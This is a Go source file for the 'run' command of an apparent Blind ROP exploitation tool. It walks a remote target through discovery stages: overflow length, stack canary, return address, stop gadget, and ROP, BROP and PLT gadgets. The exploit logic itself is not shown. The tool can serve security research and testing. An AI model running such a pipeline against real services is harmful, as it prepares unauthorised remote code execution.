package app

import (
	"fmt"
	"os"

	"github.com/spf13/cobra"

	"github.com/voidspace-sec/brop/internal/config"
	"github.com/voidspace-sec/brop/internal/logger"
	"github.com/voidspace-sec/brop/internal/session"
	"github.com/voidspace-sec/brop/internal/transport"
)

// NewRunCommand creates the "run" subcommand.
func NewRunCommand() *cobra.Command {
	var target string

	cmd := &cobra.Command{
		Use:   "run",
		Short: "Run the full BROP discovery pipeline against a target.",
		Long: `Run drives every discovery stage in order against the configured
target and prints a report: overflow length, canary, return-address
offset, saved return address, stop gadget, padding, and the recovered
gadget/BROP-gadget/PLT/strcmp-like lists.

Configuration:
  Default values are loaded from configs/config.yaml.
  Command line flags override the config file values.`,
		RunE: func(cmd *cobra.Command, args []string) error {
			cfg, err := config.LoadConfig()
			if err != nil {
				return fmt.Errorf("failed to load config: %w", err)
			}

			if !cmd.Flags().Changed("target") {
				target = cfg.Target
			}
			if target == "" {
				target = "localhost:7777"
			}

			return runDiscovery(cfg, target)
		},
	}

	cmd.Flags().StringVar(&target, "target", "", "Target address (host:port), defaults to config/localhost:7777")

	return cmd
}

// runDiscovery drives every stage in order, reporting on stdout exactly
// as spec'd, and exits the process with status 1 if any required stage
// comes back empty.
func runDiscovery(cfg *config.Config, target string) error {
	logger.Init(cfg.LogLevel)
	logger.Info("Target: %s", target)

	tr := transport.NewTCPTransport(target)
	s := session.New(tr)

	ok := true

	overflow, found := s.GetOverflowLength()
	if !found {
		logger.Error("overflow length: no result")
		fmt.Println("overflow length: (none)")
		ok = false
	} else {
		logger.Info("overflow length: %d", overflow)
		fmt.Printf("overflow length: %d\n", overflow)
	}

	if canary, has := s.GetCanary(); has {
		logger.Info("canary: %s", canary)
		fmt.Printf("canary: %s\n", canary)
	} else {
		fmt.Println("canary: (none)")
	}

	offset, found := s.GetReturnAddressOffset()
	if !found {
		logger.Error("return address offset: no result")
		fmt.Println("return address offset: (none)")
		ok = false
	} else {
		fmt.Printf("return address offset: %d\n", offset)
	}

	if retAddr, found := s.GetPossibleReturnAddress(); found {
		fmt.Printf("saved return address: %s\n", retAddr)
	} else {
		fmt.Println("saved return address: (none)")
		ok = false
	}

	if stopGadget, found := s.GetStopGadget(); found {
		fmt.Printf("stop gadget: %s\n", stopGadget)
	} else {
		fmt.Println("stop gadget: (none)")
		ok = false
	}

	if padding, found := s.GetPadding(); found {
		fmt.Printf("padding:\n%s\n", padding)
	} else {
		fmt.Println("padding: (none)")
		ok = false
	}

	gadgets, found := s.GetGadgets()
	if !found {
		logger.Warn("gadgets: stage came back empty")
		fmt.Println("gadgets: (none)")
		ok = false
	} else {
		logger.Info("gadgets: %d found", len(gadgets))
		fmt.Printf("gadgets (%d): %v\n", len(gadgets), gadgets)
	}

	bropGadgets, found := s.GetBROPGadgets()
	if !found {
		logger.Warn("brop gadgets: stage came back empty")
		fmt.Println("brop gadgets: (none)")
		ok = false
	} else {
		fmt.Printf("brop gadgets (%d): %v\n", len(bropGadgets), bropGadgets)
	}

	pltItems, found := s.GetPLTItems()
	if !found {
		logger.Warn("plt gadgets: stage came back empty")
		fmt.Println("plt gadgets: (none)")
		ok = false
	} else {
		fmt.Printf("plt gadgets (%d): %v\n", len(pltItems), pltItems)
	}

	strcmpItems, found := s.GetStrcmpItems()
	if !found {
		logger.Warn("strcmp-like gadgets: stage came back empty")
		fmt.Println("strcmp-like gadgets: (none)")
		ok = false
	} else {
		fmt.Printf("strcmp-like gadgets (%d): %v\n", len(strcmpItems), strcmpItems)
	}

	if !ok {
		os.Exit(1)
	}
	return nil
}
